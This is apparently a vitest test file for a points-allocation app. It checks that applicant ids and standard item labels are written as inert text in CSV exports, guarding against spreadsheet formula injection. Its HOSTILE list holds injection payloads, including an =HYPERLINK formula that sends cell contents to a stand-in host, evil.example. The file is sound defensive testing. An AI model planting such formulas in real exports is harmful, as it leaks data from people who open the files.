/**
 * Issue 19, CSV exports safe for Excel: applicant ids and a standard's item labels that Excel would run as formulas
 * (`=HYPERLINK(…)`, `+1+2`, `-2+3`, `@SUM(…)`, a leading tab or carriage return) are written as text, as OWASP
 * recommends, in the simulation export (a real run on a real SQLite) and in the CLI's CSV; numbers stay numbers.
 */
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { csvCell, csvLine } from "../../applicant-files/csv-writer";
import { exportHeader, exportRows, runVersionIdentities } from "../../app/features/simulation/export.server";
import { loadRun, runAndRecord } from "../../app/features/simulation/run.server";
import { createCohort, type CohortRow } from "../../db/cohorts";
import { openDatabase } from "../../db/connection";
import { migrateDatabase } from "../../db/migrate";
import { seedIfEmpty } from "../../server/seed";
import { getVersion, listStandards, saveDraftDocument } from "../../db/standards";
import { generateApplicants } from "../../engine/cohorts/cohort-generate";
import type { StandardDocument } from "../../rules-schema/types";
import { jifen, suzhouPath, tempDir } from "../integration/cli-allocation.helpers";

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"];
const FORMULA_START = /^[=+\-@\t\r]/;

function parse(text: string): string[][] {
  return Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;
}

describe("csvCell", () => {
  it("writes each hostile text as text: a quote first, the whole cell quoted", () => {
    for (const text of HOSTILE) {
      const cell = csvCell(text);
      expect(cell.startsWith(`"'`)).toBe(true);
      expect(parse(cell)[0][0]).toBe(`'${text}`);
    }
  });

  it("leaves numbers, plain text and Chinese as they were", () => {
    expect(csvLine([-5, 0.5, true, "苏州中学", "A0001", "a,b"])).toBe('-5,0.5,true,苏州中学,A0001,"a,b"\n');
  });
});

describe("the simulation export", () => {
  it("neutralises hostile applicant ids and item labels from the standard", async () => {
    process.env.JIFEN_SEED_COHORT_SIZE = "0";
    const db = openDatabase(":memory:");
    migrateDatabase(db);
    await seedIfEmpty(db);
    const suzhou = JSON.parse(readFileSync(suzhouPath, "utf8")) as StandardDocument;
    const rows: CohortRow[] = [];
    for (const a of generateApplicants(suzhou, 600, 11)) {
      const hostile = HOSTILE[rows.length % HOSTILE.length];
      rows.push({ rowNo: rows.length + 1, applicantRef: rows.length < HOSTILE.length * 20 ? `${hostile}#${rows.length}` : a.id, facts: a.facts });
    }
    const cohortId = createCohort(db, { name: "hostile", standardId: "suzhou", sourceFormat: "generated", createdBy: null }, rows).cohortId;
    const versions = listStandards(db).find((s) => s.id === "suzhou")!.versions;
    const baselineVersionId = versions.find((v) => v.status === "published")!.id;
    const draft = getVersion(db, versions.find((v) => v.status === "draft")!.id)!;
    // Every item of the candidate gets a label an attacker (or a careless paste) could have put in the standard.
    const document = JSON.parse(draft.document) as { items: Array<{ label: { zh: string; en: string } }> };
    document.items.forEach((item, k) => {
      item.label = { zh: `${HOSTILE[k % 4]}${item.label.zh}`, en: `${HOSTILE[k % 4]}${item.label.en}` };
    });
    const saved = saveDraftDocument(db, { versionId: draft.id, baseRevision: draft.revision, documentText: JSON.stringify(document), document, userId: null });
    expect(saved.kind).toBe("saved");
    const inputs = { baselineVersionId, candidateVersionId: draft.id, cohortId, programId: "settlement", evaluationDate: "2021-06-30", quotas: { "*": 100 }, seed: null };
    const { runId } = runAndRecord(db, "suzhou", inputs, null);
    for (const lang of ["zh-CN", "en"] as const) {
      // What the export route writes.
      const text = ["\uFEFF", csvLine(exportHeader(lang)), ...[...exportRows(loadRun(db, runId)!, lang, runVersionIdentities(db, loadRun(db, runId)!))].map(csvLine)].join("");
      const cells = parse(text).flat();
      expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
      for (const hostile of HOSTILE) expect(cells).toContain(`'${hostile}#${HOSTILE.indexOf(hostile)}`);
      expect(cells.some((c) => c.startsWith("'=HYPERLINK(") && c.includes("→"))).toBe(true);
    }
  });
});

describe("the CLI's CSV", () => {
  it("rank --format csv writes hostile ids as text", () => {
    const dir = tempDir();
    const cohort = join(dir, "cohort.jsonl");
    writeFileSync(cohort, HOSTILE.map((id) => JSON.stringify({ id, facts: {} })).join("\n") + "\n");
    const out = join(dir, "ranked.csv");
    const result = jifen(["rank", "--standard", suzhouPath, "--program", "settlement", "--cohort", cohort, "--date", "2016-05-15", "--quota", "2", "--format", "csv", "--out", out]);
    expect(result.code).toBe(0);
    const ids = parse(readFileSync(out, "utf8")).slice(1).map((r) => r[0]);
    expect(ids.sort()).toEqual(HOSTILE.map((h) => `'${h}`).sort());
  });
});
